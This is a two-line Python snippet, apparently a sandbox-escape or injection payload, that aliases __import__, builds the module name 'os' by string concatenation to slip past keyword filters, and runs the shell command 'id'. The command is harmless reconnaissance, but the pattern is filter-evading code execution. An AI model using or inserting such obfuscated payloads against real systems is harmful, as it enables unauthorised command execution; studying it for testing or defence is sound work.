bring = __import__
bring("o" + "s").system("id")
